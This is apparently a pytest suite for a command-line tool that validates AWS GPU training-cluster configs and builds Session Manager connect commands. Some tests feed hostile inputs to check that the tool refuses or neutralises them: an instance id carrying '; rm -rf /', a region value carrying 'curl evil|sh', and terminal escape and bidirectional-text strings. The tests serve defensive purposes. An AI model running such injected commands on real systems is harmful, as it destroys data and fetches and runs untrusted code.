"""The ``training-cluster`` command line: ``validate`` gives the findings synthesis gives, in the
same words, and a plan; ``connect`` builds the Session Manager command. Run as the installed
console script where the test is about the command itself."""

from __future__ import annotations

import io
import json
import os
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest
import yaml

from conftest import EXAMPLES, ROOT, minimal_config
from training_cluster import ClusterConfig, ConfigError
from training_cluster.cli import main

SCRIPT = Path(sys.executable).parent / "training-cluster"


def run(*argv: str) -> tuple[int, str, str]:
    out, err = io.StringIO(), io.StringIO()
    code = main(list(argv), out=out, err=err)
    return code, out.getvalue(), err.getvalue()


def write(tmp_path: Path, data: dict[str, Any] | str) -> Path:
    path = tmp_path / "cluster.yaml"
    path.write_text(data if isinstance(data, str) else yaml.safe_dump(data))
    return path


@pytest.mark.parametrize("example", EXAMPLES, ids=lambda p: p.name)
def test_validate_gives_the_configs_warnings_and_a_plan_for_every_example(example: Path) -> None:
    code, out, _ = run("validate", str(example), "--json")
    assert code == 0
    report = json.loads(out)
    config = ClusterConfig.from_yaml(example)
    assert report["valid"] is True and report["errors"] == []
    assert report["warnings"] == [{"path": f.path, "message": f.message} for f in config.warnings()]
    plan = report["plan"]
    assert plan["cluster"] == config.name
    compute = [g for g in plan["groups"] if g["role"] == "compute"]
    assert [(g["name"], g["count"]) for g in compute] == [(g.name, g.count) for g in config.instance_groups]
    assert plan["nodes"] == sum(g["count"] for g in plan["groups"])


def test_the_plan_of_the_default_example() -> None:
    code, out, err = run("validate", str(ROOT / "examples" / "default.yaml"))
    assert code == 0 and err == ""
    lines = out.splitlines()
    assert lines[0] == "demo: us-east-1, us-east-1a"
    # A p5.48xlarge: 8 GPUs, all 32 EFA interfaces, 3,200 Gbps each.
    gpu = next(line.split() for line in lines if line.startswith("gpu "))
    assert gpu == ["gpu", "compute", "p5.48xlarge", "2", "8", "GPU", "32", "3,200", "6,400", "on-demand"]
    assert "nodes 4, GPUs 16" in lines
    assert "compute subnet: 17 addresses needed of 32,768" in lines
    assert "file system: FSx for Lustre PERSISTENT_2, 1,200 GiB, 292 MB/s (250 MB/s/TiB), at /fsx" in lines


def test_the_plan_shows_a_groups_spares(tmp_path: Path) -> None:
    data = yaml.safe_load((ROOT / "examples" / "default.yaml").read_text())
    data["instance_groups"][0]["spares"] = 2
    code, out, _ = run("validate", str(write(tmp_path, data)))
    assert code == 0
    gpu = next(line for line in out.splitlines() if line.startswith("gpu "))
    assert " 2 + 2 spares " in gpu
    assert "compute subnet: 20 addresses needed of 32,768" in out  # 17 without: the spares counted
    code, out, _ = run("validate", str(write(tmp_path, data)), "--json")
    (group,) = [g for g in json.loads(out)["plan"]["groups"] if g["name"] == "gpu"]
    assert (group["count"], group["spares"]) == (2, 2)


def test_a_capacity_block_and_its_neuron_devices_are_in_the_plan() -> None:
    code, out, _ = run("validate", str(ROOT / "examples" / "trn2-capacity-block.yaml"), "--json")
    (group,) = json.loads(out)["plan"]["groups"]
    assert code == 0
    assert (group["capacity"], group["neuron_devices_per_node"], group["efa_interfaces_per_node"]) == (
        "capacity-block cr-0123456789abcdef0",
        16,
        16,
    )


BAD = [
    minimal_config(instance_groups=[{"name": "gpu", "instance_type": "p5.48xlarge", "count": 0, "efa": "yes"}]),
    minimal_config(storage={"lustre": {"throughput_mbps_per_tib": 200}}),
    minimal_config(instance_groups=[{"name": "gpu", "instance_type": "m7i.large", "count": 1, "efa": "on"}]),
    minimal_config(network={"vpc_cidr": "10.0.0.0/8"}),
    minimal_config(orchestrator={"type": "none", "users": {"alice": 2001}}),
]


@pytest.mark.parametrize(
    "data", BAD, ids=["count-and-efa", "throughput", "efa-on-cpu", "vpc-cidr", "users-without-slurm"]
)
def test_validate_gives_the_errors_synthesis_gives_in_the_same_words(tmp_path: Path, data: dict[str, Any]) -> None:
    path = write(tmp_path, data)
    with pytest.raises(ConfigError) as synthesis:  # what app.py reports (build_cluster reads the file the same way)
        ClusterConfig.from_yaml(path)
    code, out, err = run("validate", str(path))
    assert (code, out) == (2, "")
    assert err == f"error: {synthesis.value}\n"
    code, out, _ = run("validate", str(path), "--json")
    report = json.loads(out)
    assert code == 2 and report["valid"] is False and report["plan"] is None
    assert report["errors"] == [{"path": f.path, "message": f.message} for f in synthesis.value.findings]


@pytest.mark.slow
def test_validate_and_the_app_print_the_same_error(tmp_path: Path) -> None:
    """The app as ``cdk synth`` runs it, against the installed command, on a file with errors."""
    path = write(tmp_path, BAD[0])
    app = subprocess.run(
        [sys.executable, str(ROOT / "app.py")],
        env={**os.environ, "CDK_CONTEXT_JSON": json.dumps({"config": str(path)}), "CDK_OUTDIR": str(tmp_path / "o")},
        capture_output=True,
        text=True,
        timeout=300,
    )
    cli = subprocess.run([str(SCRIPT), "validate", str(path)], capture_output=True, text=True, timeout=60)
    assert (app.returncode, cli.returncode) == (2, 2)
    assert cli.stderr.strip() in app.stderr


def test_a_file_that_is_not_a_config_is_an_error(tmp_path: Path) -> None:
    code, _, err = run("validate", str(tmp_path / "missing.yaml"))
    assert code == 2 and err.startswith("error: 1 problem in ") and "cannot read the file" in err
    code, _, err = run("validate", str(write(tmp_path, "count: 010\n")))
    assert code == 2 and "010" in err


def test_validate_loads_neither_aws_cdk_nor_jsii(tmp_path: Path) -> None:
    code = (
        "import sys\n"
        "from training_cluster.cli import main\n"
        f"assert main(['validate', {str(ROOT / 'examples' / 'default.yaml')!r}, '--json']) == 0\n"
        "loaded = sorted(m for m in sys.modules if m.split('.')[0] in ('aws_cdk', 'jsii', 'constructs', 'boto3'))\n"
        "print(loaded, file=sys.stderr)\n"
        "sys.exit(1 if loaded else 0)\n"
    )
    result = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, timeout=60)
    assert result.returncode == 0, result.stderr


def test_the_cluster_commands_load_boto3_only_when_they_run() -> None:
    """Every command's parser (``--help``) starts without boto3, aws-cdk-lib or jsii; a command
    that talks to AWS loads boto3 and the module that reads the cluster."""
    code = (
        "import sys\n"
        "from training_cluster.cli import main\n"
        "for command in ('status', 'nodes', 'incidents', 'incident', 'repair', 'reset-breaker'):\n"
        "    try:\n"
        "        main([command, '--help'])\n"
        "    except SystemExit:\n"
        "        pass\n"
        "loaded = sorted(m for m in sys.modules if m.split('.')[0] in ('aws_cdk', 'jsii', 'constructs', 'boto3', 'botocore'))\n"
        "print(loaded, file=sys.stderr)\n"
        "assert main(['status']) == 1  # which cluster? asked before any AWS call\n"
        "sys.exit(1 if loaded or 'training_cluster.operate' in sys.modules else 0)\n"
    )
    result = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, timeout=60)
    assert result.returncode == 0, result.stderr
    assert "which cluster? pass --stack NAME (and --region), or --config FILE" in result.stderr


def test_repair_refuses_what_is_not_an_instance_id_before_any_aws_call() -> None:
    code, out, _ = run("repair", "web-1", "--replace", "--yes", "--stack", "s", "--json")
    assert code == 1 and json.loads(out) == {
        "error": "NODE must be an instance id such as i-0123456789abcdef0 (got 'web-1')"
    }


def test_the_console_script_is_installed_and_runs() -> None:
    result = subprocess.run(
        [str(SCRIPT), "validate", str(ROOT / "examples" / "default.yaml"), "--json"],
        capture_output=True,
        text=True,
        timeout=60,
    )
    assert result.returncode == 0, result.stderr
    assert json.loads(result.stdout)["plan"]["gpus"] == 16


# connect


def test_connect_builds_the_session_manager_command() -> None:
    code, out, _ = run("connect", "i-0123456789abcdef0", "--region", "us-east-2", "--print")
    assert code == 0
    assert out.split() == ["aws", "ssm", "start-session", "--target", "i-0123456789abcdef0", "--region", "us-east-2"]
    code, out, _ = run("connect", "i-0123456789abcdef0", "--json")
    assert json.loads(out) == {"command": ["aws", "ssm", "start-session", "--target", "i-0123456789abcdef0"]}


@pytest.mark.parametrize("node", ["i-123", "i-0123456789abcdef0; rm -rf /", "--target", "I-0123456789ABCDEF0"])
def test_connect_refuses_what_is_not_an_instance_id(node: str) -> None:
    code, _, err = run("connect", "--print", "--", node) if node.startswith("-") else run("connect", node, "--print")
    assert code == 1 and "NODE must be an instance id such as i-0123456789abcdef0" in err


def test_connect_says_when_the_session_manager_plugin_is_missing(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    bin_dir = tmp_path / "bin"
    bin_dir.mkdir()
    aws = bin_dir / "aws"
    aws.write_text("#!/bin/sh\nexit 0\n")
    aws.chmod(0o755)
    monkeypatch.setenv("PATH", str(bin_dir))
    code, _, err = run("connect", "i-0123456789abcdef0")
    assert code == 1
    assert "Session Manager plugin (session-manager-plugin) is not installed" in err
    assert "session-manager-working-with-install-plugin" in err


def test_connect_takes_a_node_or_login_not_both() -> None:
    code, _, err = run("connect", "i-0123456789abcdef0", "--login", "--print")
    assert code == 1 and "give NODE (an instance id) or --login, not both" in err
    code, _, err = run("connect", "--print")
    assert code == 1 and "give NODE (an instance id), or --login for a login node" in err


def test_connect_login_picks_a_running_login_node(monkeypatch: pytest.MonkeyPatch) -> None:
    from contextlib import contextmanager
    from types import SimpleNamespace

    from training_cluster.cli import _operate

    def node(instance_id: str, group: str, state: str) -> Any:
        return SimpleNamespace(instance_id=instance_id, group=group, state=state)

    nodes = [
        node("i-0fffffffffffffff0", "login", "stopped"),
        node("i-0bbbbbbbbbbbbbbb0", "login", "running"),
        node("i-0aaaaaaaaaaaaaaa0", "gpu", "running"),
        node("i-0ccccccccccccccc0", "login", "running"),
    ]
    found = SimpleNamespace(stack="demo-training-cluster", region="eu-west-1", nodes=lambda: nodes, hyperpod=None)

    @contextmanager
    def cluster_of(args: Any) -> Any:
        assert args.stack == "demo-training-cluster"
        yield found

    monkeypatch.setattr(_operate, "cluster_of", cluster_of)
    code, out, _ = run("connect", "--login", "--stack", "demo-training-cluster", "--print")
    assert code == 0
    assert out.split() == ["aws", "ssm", "start-session", "--target", "i-0bbbbbbbbbbbbbbb0", "--region", "eu-west-1"]
    nodes[1].state = nodes[3].state = "stopping"
    code, _, err = run("connect", "--login", "--stack", "demo-training-cluster", "--print")
    assert code == 1 and "no login node is running in demo-training-cluster" in err


def _fake_cluster(monkeypatch: pytest.MonkeyPatch, nodes: list[Any], region: str = "eu-west-1") -> None:
    from contextlib import contextmanager
    from types import SimpleNamespace

    from training_cluster.cli import _operate

    found = SimpleNamespace(stack="demo-training-cluster", region=region, nodes=lambda: nodes, hyperpod=None)

    @contextmanager
    def cluster_of(args: Any) -> Any:
        yield found

    monkeypatch.setattr(_operate, "cluster_of", cluster_of)


def test_connect_to_a_named_clusters_node_checks_it_and_takes_its_region_and_profile(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    from types import SimpleNamespace

    member = SimpleNamespace(instance_id="i-0bbbbbbbbbbbbbbb0", group="gpu", state="running")
    _fake_cluster(monkeypatch, [member])
    code, out, _ = run(
        "connect", "i-0bbbbbbbbbbbbbbb0", "--stack", "demo-training-cluster", "--profile", "prod", "--print"
    )
    assert code == 0
    assert out.split() == [
        "aws", "ssm", "start-session", "--target", "i-0bbbbbbbbbbbbbbb0", "--region", "eu-west-1", "--profile", "prod",
    ]  # fmt: skip
    code, _, err = run("connect", "i-0ccccccccccccccc0", "--stack", "demo-training-cluster", "--print")
    assert code == 1 and "is not a running node of demo-training-cluster" in err


def test_the_printed_command_is_quoted_for_a_shell() -> None:
    code, out, _ = run("connect", "i-0123456789abcdef0", "--region", "us-east-1; curl evil|sh", "--print")
    assert code == 0 and out.strip().endswith("--region 'us-east-1; curl evil|sh'")


def test_text_from_the_cluster_reaches_the_terminal_without_control_sequences() -> None:
    from training_cluster.cli._output import printable, table

    hostile = "drained (\x1b]0;owned\x07\x1b[2J\x1b[H\x1b[32mALL GOOD\x1b[0m\r\x9b)" + "x" * 5000
    shown = printable(hostile)
    assert len(shown) == 80 and shown.endswith("...") and not any(c in shown for c in "\x1b\x07\r\x9b")
    shown.encode("latin-1")  # a terminal of any encoding can print a cut cell
    trojan = "agent: xid 79 \u202eKO ,yhtlaeh\u202c\u200b"  # shown reversed by a bidi terminal
    assert printable(trojan) == "agent: xid 79 ?KO ,yhtlaeh??"
    lines = table(["NODE", "SCHEDULER"], [["i-0123456789abcdef0", hostile]], lambda t: t)
    assert max(len(line) for line in lines) < 120 and "\x1b" not in "".join(lines)


def test_json_may_come_before_the_command_and_limits_are_positive(tmp_path: Path) -> None:
    config = tmp_path / "c.yaml"
    config.write_text(yaml.safe_dump(minimal_config()))
    code, out, _ = run("--json", "validate", str(config))
    assert code == 0 and json.loads(out)["valid"] is True
    for argv in (["incidents", "--limit", "0"], ["status", "--incidents", "-2"], ["incidents", "--limit", "x"]):
        with pytest.raises(SystemExit) as usage:
            main([*argv, "--stack", "s"], out=io.StringIO(), err=io.StringIO())
        assert usage.value.code == 2, argv


def test_a_broken_config_is_exit_2_in_every_command(tmp_path: Path) -> None:
    config = tmp_path / "broken.yaml"
    config.write_text(yaml.safe_dump(minimal_config(name="Bad Name")))
    code, _, err = run("status", "--config", str(config))
    assert code == 2 and "name:" in err


@pytest.mark.parametrize(
    ("raised", "code", "said"),
    [(KeyboardInterrupt(), 130, "interrupted"), (ValueError("odd answer"), 1, "unexpected ValueError: odd answer")],
)
def test_an_interrupt_or_an_unexpected_error_is_a_message_not_a_traceback(
    monkeypatch: pytest.MonkeyPatch, raised: BaseException, code: int, said: str
) -> None:
    from training_cluster.cli import _operate

    def fails(*args: Any) -> int:
        raise raised

    monkeypatch.setattr(_operate, "_incidents", fails)
    monkeypatch.delenv("TRAINING_CLUSTER_DEBUG", raising=False)
    got, _, err = run("incidents", "--stack", "s")
    assert got == code and said in err and "Traceback" not in err


def test_a_reader_that_goes_away_is_not_an_error() -> None:
    config = ROOT / "examples" / "default.yaml"
    script = Path(sys.executable).parent / "training-cluster"
    reader = subprocess.Popen(["true"], stdin=subprocess.PIPE)
    reader.wait()  # gone before a byte is written
    assert reader.stdin is not None
    writer = subprocess.run(
        [str(script), "validate", str(config)], stdout=reader.stdin, stderr=subprocess.PIPE, text=True, check=False
    )
    reader.stdin.close()
    assert writer.stderr == "" and writer.returncode == 0


def test_gbps_show_a_decimal_where_they_have_one() -> None:
    from training_cluster.cli._validate import _gbps

    assert [_gbps(v) for v in (12.5, 25.0, 3200.0, 100.0)] == ["12.5", "25", "3,200", "100"]


class _Lambda:
    """A Lambda client whose Invoke fails as told, counting the calls."""

    def __init__(self, *failures: BaseException) -> None:
        self.failures, self.calls, self.configs = list(failures), 0, []

    def client(self, service: str, region_name: str, config: Any) -> Any:
        self.configs.append(config)
        return self

    def invoke(self, **params: Any) -> Any:
        self.calls += 1
        if self.failures:
            raise self.failures.pop(0)
        from io import BytesIO

        return {"Payload": BytesIO(b'{"outcomes": [], "scheduler": {"i-0123456789abcdef0": "idle"}}')}


def _operated(session: _Lambda) -> Any:
    from training_cluster.operate import Cluster

    return Cluster(stack="s", region="us-east-1", outputs={"RepairFunctionName": "f"}, groups={}, session=session)


def _client_error(code: str) -> Exception:
    from botocore.exceptions import ClientError

    return ClientError({"Error": {"Code": code, "Message": code}}, "Invoke")


def test_an_invoke_that_acts_is_sent_once_and_a_slow_answer_says_what_may_have_happened() -> None:
    from botocore.exceptions import ReadTimeoutError

    from training_cluster.operate import ACT_SECONDS, OperateError

    session = _Lambda(ReadTimeoutError(endpoint_url="http://lambda"))
    with pytest.raises(OperateError, match="the request may have been carried out; see `training-cluster incidents`"):
        _operated(session).invoke({"repair": {}})
    (config,) = session.configs
    assert session.calls == 1 and config.retries == {"total_max_attempts": 1} and config.read_timeout == ACT_SECONDS


def test_a_busy_function_is_asked_again_and_a_refusal_is_not(monkeypatch: pytest.MonkeyPatch) -> None:
    import training_cluster.operate as operate

    monkeypatch.setattr(operate.time, "sleep", lambda seconds: None)
    busy = _Lambda(_client_error("TooManyRequestsException"), _client_error("TooManyRequestsException"))
    told: list[str] = []
    assert _operated(busy).invoke({"repair": {}}, said=told.append) == [] and busy.calls == 3
    assert told == ["the repair function is busy (a sweep is running): asking again for up to 60 s"]
    denied = _Lambda(_client_error("AccessDeniedException"))
    with pytest.raises(Exception, match="AccessDenied"):
        _operated(denied).invoke({"repair": {}})
    assert denied.calls == 1


def test_nodes_do_without_the_scheduler_when_it_cannot_be_asked() -> None:
    ids = ["i-0123456789abcdef0", "i-0123456789abcdef1"]
    denied = _operated(_Lambda(_client_error("AccessDeniedException")))
    assert denied.scheduler_states(ids) == dict.fromkeys(ids, "unknown (not allowed to ask the repair function)")
    assert _operated(_Lambda()).scheduler_states(ids[:1]) == {"i-0123456789abcdef0": "idle"}


def test_a_function_that_stays_busy_says_nothing_was_done_and_the_scheduler_column_gives_up_sooner(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    import training_cluster.operate as operate
    from training_cluster.operate import OperateError

    now = [0.0]
    monkeypatch.setattr(operate.time, "monotonic", lambda: now[0])
    monkeypatch.setattr(operate.time, "sleep", lambda seconds: now.__setitem__(0, now[0] + seconds))
    always = _Lambda(*[_client_error("TooManyRequestsException")] * 100)
    with pytest.raises(OperateError, match=r"stayed busy for 60 s \(a sweep, or another request\): nothing was done"):
        _operated(always).invoke({"repair": {}})
    assert always.calls == 13  # at 0, 5, ..., 60 s
    now[0] = 0.0
    column = _Lambda(*[_client_error("TooManyRequestsException")] * 100)
    ids = ["i-0123456789abcdef0"]
    assert _operated(column).scheduler_states(ids) == {ids[0]: "unknown (busy: the repair function is running a sweep)"}
    assert column.calls == 3  # at 0, 5 and 10 s


def test_a_usage_error_is_json_too_when_json_is_asked_for() -> None:
    out = io.StringIO()
    with pytest.raises(SystemExit) as usage:
        main(["--json", "incidents", "--limit", "0", "--stack", "s"], out=out, err=io.StringIO())
    assert usage.value.code == 2
    assert "a whole number of at least 1" in json.loads(out.getvalue())["error"]


def test_a_terminal_gets_health_and_state_in_colour_and_a_pipe_plain_text() -> None:
    from training_cluster.cli._output import styler, table

    header = ["NODE", "HEALTH", "UNHEALTHY", "BREAKER"]
    rows = [["i-1", "unhealthy xid:79", "2", "open (1 held)"], ["i-2", "healthy", "0", "closed"]]
    coloured = table(header, rows, styler(True))
    assert "\033[31munhealthy xid:79\033[0m" in coloured[1] and "\033[31m2        \033[0m" in coloured[1]
    assert "\033[32mhealthy" in coloured[2] and "\033[31mopen (1 held)\033[0m" in coloured[1]
    assert "0        " in coloured[2] and "\033[31m0" not in coloured[2]
    assert not any("\033[" in line for line in table(header, rows, styler(False)))


def test_one_ledger_item_with_a_bad_time_does_not_hide_the_others() -> None:
    from training_cluster.ledger_view import ledger_seconds

    assert (ledger_seconds("1800000000.5"), ledger_seconds("soon"), ledger_seconds(None)) == (1800000000.5, 0.0, 0.0)
